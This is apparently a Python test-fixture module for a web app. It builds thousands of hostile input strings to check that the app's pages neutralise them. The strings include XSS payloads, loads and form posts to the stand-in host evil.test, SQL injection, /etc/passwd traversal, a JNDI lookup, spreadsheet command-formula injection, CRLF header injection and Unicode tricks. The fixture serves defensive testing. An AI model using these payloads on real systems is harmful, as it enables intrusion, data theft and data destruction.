"""Words that try to be more than words: families of attacks, each in many dresses. Nothing is downloaded."""

import random
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass

RAN = "window.__ran=1"
"""What a script of theirs would leave behind; a page on which it stands has lost."""
OUTSIDE = "https://evil.test"


@dataclass(frozen=True)
class Vector:
    """What somebody writes, or is called. Two of one family differ in their dress."""

    family: str
    text: str


MARKUP = {
    "script": [
        f"<script>{RAN}</script>", f"<script src={OUTSIDE}/x.js></script>", f"<script type=module>{RAN}</script>",
        f"<script/x>{RAN}</script >", f"<scr<script>ipt>{RAN}</scr</script>ipt>", f"<script>{RAN}//",
        f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    ],
    "handler": [
        f"<img src=x onerror={RAN}>", f"<img/src=x/onerror={RAN}>", f"<body onload={RAN}>",
        f"<input autofocus onfocus={RAN}>", f"<details open ontoggle={RAN}>x</details>",
        f"<video><source onerror={RAN}></video>", f"<div onpointerover={RAN} style=position:fixed;inset:0>x</div>",
        f"<a href=# onclick={RAN} accesskey=x>x</a>", f"<marquee onstart={RAN}>x</marquee>",
        f'" onmouseover={RAN} x="', f"' autofocus onfocus={RAN} '", f"` onerror={RAN} `",
    ],
    "svg": [
        f"<svg onload={RAN}>", f"<svg><script>{RAN}</script></svg>", f"<svg><animate onbegin={RAN} attributeName=x>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RAN}>#x'/></svg>",
        f"<svg><foreignObject><img src=x onerror={RAN}></foreignObject></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}>",
        f"<math href='javascript:{RAN}'>x</math>", f"<svg><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>",
        f"<svg><style><img src=x onerror={RAN}></style>",
    ],
    "load": [
        f"<img src={OUTSIDE}/a.png>", f"<img srcset='{OUTSIDE}/a.png 1x'>", f"<link rel=stylesheet href={OUTSIDE}>",
        f"<iframe src={OUTSIDE}></iframe>", f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
        f"<object data={OUTSIDE}></object>", f"<embed src={OUTSIDE}>",
        f"<meta http-equiv=refresh content='0;{OUTSIDE}'>",
        f"<base href={OUTSIDE}/>", f"<form action={OUTSIDE}><button id=csrf name=csrfmiddlewaretoken>Send</form>",
        f"<audio src={OUTSIDE}/a.mp3 autoplay>", f"<link rel=dns-prefetch href={OUTSIDE}>",
        f"<picture><source srcset={OUTSIDE}/b.png><img></picture>", f"<table background={OUTSIDE}/c.png>",
    ],
    "dom": [
        "<div id=main name=inbox></div>", "<form id=work></form>", "<input name=id form=work value=x>",
        "<div hx-get=/account/logout/ hx-trigger=load>x</div>", f"<div hx-on::load={RAN}>x</div>",
        f"<kaja-reply data-send={OUTSIDE}>x</kaja-reply>", "</li></ol></section></main>", "</textarea></form>",
        "<template><p>x</template>", "<dialog open>x</dialog>", "<!--", "<![CDATA[x]]>", "<plaintext>", "<xmp>",
    ],
    "css": [
        "<style>*{display:none}</style>", f"<style>@import '{OUTSIDE}/x.css';</style>",
        f"<p style=\"background:url({OUTSIDE}/a.png)\">x</p>",
        "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
        f"}}*{{background:url({OUTSIDE})}}", f"x;width:expression({RAN})", f"\\3c img src=x onerror={RAN}\\3e",
    ],
}  # fmt: skip
SCHEMES = [
    f"javascript:{RAN}", f"JaVaScRiPt:{RAN}", f" javascript:{RAN}", f"java\tscript:{RAN}", f"java\nscript:{RAN}",
    f"\x01javascript:{RAN}", f"javascript&colon;{RAN}", f"javascript://evil.test/%0a{RAN}",
    f"data:text/html,<script>{RAN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RAN}", "file:///etc/passwd", "blob:https://evil.test/x", "filesystem:https://evil.test/x",
    "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test", "https:evil.test", "https:///evil.test", "http://[::1",
    "view-source:https://evil.test", "intent://evil.test#Intent;end", "feed:javascript:alert(1)",
    f'{OUTSIDE}/"onmouseover="{RAN}', f"{OUTSIDE}/'><script>{RAN}</script>", f"{OUTSIDE}/<svg/onload={RAN}>",
    "https://user:pass@evil.test@kaja.test/", "https://кафе.рф/путь", "https://xn--80ak6aa92e.com/",
    "http://evil.test%00/",
    "https://evil.test/\u202egnp.exe", "https://evil.test/%E2%80%AE", "https://evil\u3002test/", "ftp://evil.test/x",
    f"{OUTSIDE}/" + "a" * 1990, "mailto:a@evil.test?cc=b@evil.test", "tel:+1", "ws://evil.test", "about:blank",
    "https://evil.test/`${alert(1)}`", "https://evil.test/?q={{7*7}}",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", "{% include 'base.html' %}", "{{ settings.SECRET_KEY }}", "{# x #}",
    "{% load static %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{name}", "{me}", "{first_name!r}",
    "%(name)s", "%s%s%s%n", "%(count)d", "{0.__class__.__mro__}", "$(id)", "`id`", "${jndi:ldap://evil.test/a}",
    "{}", "%",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    f'=HYPERLINK("{OUTSIDE}","x")', f'=IMPORTXML("{OUTSIDE}","//a")', '=WEBSERVICE("x")', "＝1+1", "＋1", "－1", "＠x",
    '"=1+1"', '";=1+1', "x\n=1+1", 'a","b', "a;b\tc", "'=1+1", "%0A=1+1", "\ufeff=1+1", "|calc",
    "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip
BREAKERS = [
    "x\r\nBcc: all@evil.test", "x\nSet-Cookie: a=b", "x\r\n\r\n<script>", "x%0d%0aLocation:%20https://evil.test",
    '"}],"x":[{"', "</script><script>", "\\u003cscript\\u003e", "\u2028alert(1)\u2029", '\\"', "\\", "\\x3c", "]]>",
    "-->",
    "'; DROP TABLE inbox_message; --", "' OR '1'='1", "$$;SELECT pg_sleep(9)--", "../../etc/passwd", "a\x00b",
    "\x1b[2J\x1b]0;x\x07",
    "event: x\ndata: y\n\n", "BEGIN:VCARD\nFN:x\nEND:VCARD", "TEL:1\nEMAIL:x", "a;b,c:d\\n", "=?utf-8?q?x?=",
    "\x7f\x80\x9f",
    "null", "true", "NaN", "-0", "__proto__", "constructor", "[object Object]", "undefined", "on", "1e999",
]  # fmt: skip
BIDI = [
    "\u202egnp.exe", "\u202dabc", "\u202bא\u202c", "\u2066x", "\u2067x\u2069", "\u2068\u2068\u2068x", "\u2069\u2069x",
    "\u200fabc\u200e", "\u061cx", "a\u202e\u2066\u202db", "שלום (abc) \u202e!", "مرحبا\u202dabc", "\u202a" * 200 + "x",
]  # fmt: skip
INVISIBLE = [
    "\u200b", "\u200b\u2060\ufeff", "a\u200db\u200cc", "\u00ad" * 50, "\u3164", "\u115f\u1160", "\u2800", "\ufe0f",
    "\U000e0041\U000e0042",
    "\u180e", "\u00a0", "\u2003\u3000", "\u034f", "\ufff9x\ufffay\ufffb", "\U000e0001", "\ue000\uf8ff",
    "\uffff\ufffe", "\u2062",
]  # fmt: skip
STACKS = [
    "a" + "\u0301" * 500, "Z" + "\u0335\u0321\u0310" * 100, "\u0489" * 300, "\u0e49" * 200, "\u0f90" * 200, "ก็" * 300,
    "🏳️‍🌈" * 60, "👩‍👩‍👧‍👦" * 60, "\U0001f1e6" * 101, "﷽" * 60, "𒐫" * 60, "\u1d165" * 20, "g\u0335" * 200,
]  # fmt: skip
ENCODINGS = [
    "\ud800", "x\udfff", "\udc80\udcff", "\ud83d", "a\ud83d\ud83db", "\udcf0\udc9f", "Ã¼ Â© â€œ", "ðŸ˜€",
    "ÐŸÑ€Ð¸Ð²ÐµÑ‚",
    "\ufffd\ufffd", "\xc0\xbcscript\xc0\xbe", "+ADw-script+AD4-", "\ufeffx", "\u1e9e\u0130\u0131", "e\u0301é",
    "Å\u212b",
    "\x00", "\x00<script>\x00", "<\x00script>", "\x85\u2028\u2029", "\x0b\x0c", "\r", "a\rb", "\r\n\r\n",
    "％3Cscript％3E",
]  # fmt: skip
LONG = [
    "x" * 100_000, "я" * 50_000, "<b>" * 30_000, "&lt;" * 25_000, "\n" * 100_000, "https://evil.test/ " * 5_000,
    "😀" * 25_000, "a\u0301" * 50_000, " ".join(["word"] * 20_000), "(" * 100_000, "[" * 100_000 + "](",
    "\u202e" * 100_000,
]  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" if sign in "<>\"'=(" else sign for sign in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(sign):02X}" if sign in "<>\"'=( " else sign for sign in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if sign in "<>\"'=()" else sign for sign in text)


def _mixed(text: str) -> str:
    return "".join(sign.upper() if number % 2 else sign.lower() for number, sign in enumerate(text))


DRESSES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"</textarea></title></style></script>{text}",
    lambda text: f"--></noscript></template>{text}<!--",
    _entities,
    lambda text: _entities(_entities(text)),
    _percent,
    _wide,
    _mixed,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: f"{OUTSIDE}/{text}",
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("=", "\n=\t"),
    lambda text: f"\ud800{text}\udfff",
    lambda text: f"[x]({text})",
    lambda text: f"@a<{text}>#b",
    lambda text: text.encode("utf-8", "replace").decode("latin-1"),
    lambda text: text * 3,
    lambda text: f"{{{{ {text} }}}}",
    lambda text: f"Hello, {text} and so on. " * 2,
]
PLAIN_DRESSES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: f"Before {text} after",
    lambda text: f'"{text}"',
    lambda text: f"{text}\n{text}",
    lambda text: f"<b title='{text}'>{text}</b>",
]


PLAIN = {
    "scheme": SCHEMES, "template": TEMPLATES, "formula": FORMULAS, "breaker": BREAKERS, "bidi": BIDI,
    "invisible": INVISIBLE, "stack": STACKS, "encoding": ENCODINGS,
}  # fmt: skip


def _make() -> Iterator[Vector]:
    for family, bases in MARKUP.items():
        for base in bases:
            for dress in DRESSES:
                yield Vector(family, dress(base))
    for family, bases in PLAIN.items():
        for base in bases:
            for dress in PLAIN_DRESSES:
                yield Vector(family, dress(base))
    for base in LONG:
        yield Vector("long", base)


def list_vectors() -> list[Vector]:
    """All of them, each text once, in an order that mixes the families and is always the same."""
    found = list({vector.text: vector for vector in _make()}.values())
    random.Random("hostile words").shuffle(found)
    return found


def list_first() -> list[Vector]:
    """Each attack once, as it is; without the longest."""
    found = {base: Vector(family, base) for family, bases in MARKUP.items() for base in bases}
    for family, bases in PLAIN.items():
        found |= {base: Vector(family, base) for base in bases}
    return list(found.values())


def stored_text(text: str, most: int = 20_000) -> str:
    """What of a text a page must show, said here once more and not by the code that is tried: everything but control
    characters, which no screen shows, with halves of surrogate pairs as question marks; the first of what is long."""
    whole = text.replace("\0", "").encode("utf-8", "replace").decode().replace("\r\n", "\n").replace("\r", "\n")
    return "".join(sign for sign in whole if sign in "\t\n" or unicodedata.category(sign) != "Cc")[:most]
